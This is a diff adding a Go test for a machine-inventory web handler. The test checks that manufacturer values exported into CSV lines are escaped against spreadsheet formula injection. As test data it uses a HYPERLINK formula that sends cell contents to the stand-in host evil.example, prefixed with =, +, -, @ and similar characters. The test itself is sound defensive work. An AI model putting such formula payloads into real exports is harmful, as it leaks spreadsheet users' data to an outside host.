@@ -185,6 +185,17 @@ func TestCreateOneHasASummary(t *testing.T) {
 		if _, body := get(t, h, "/tasks/create?mode=many&fill=discovered"); !strings.Contains(body, "7c:c2:55:10:92:01,,bj-1,Dell Inc. PowerEdge R760 77001") {
 			t.Error("the discovered machines are not there as lines")
 		}
+		for begin, want := range map[string]string{"=": "'=", "+": "'+", "-1": "'-1", "@": "'@", "\t=": "'=", "＝": "'＝", "a=": "a=", "": "Power"} { // V21
+			s.seen[0].Hardware.System.Manufacturer, s.seen[0].Manufacturer = begin+`HYPERLINK("http://evil.example/"&A1)`, begin+`HYPERLINK("http://evil.example/"&A1)`
+			if begin == "" {
+				s.seen[0].Hardware.System.Manufacturer, s.seen[0].Manufacturer = "", ""
+			}
+			_, body := get(t, h, "/tasks/create?mode=many&fill=discovered")
+			_, line, _ := strings.Cut(html.UnescapeString(body), "7c:c2:55:10:92:01,,bj-1,")
+			if line = strings.TrimPrefix(line, `"`); !strings.HasPrefix(line, want) {
+				t.Errorf("the cell of a manufacturer %q begins with %.20q; want %q", begin, line, want)
+			}
+		}
 	})
 }
 
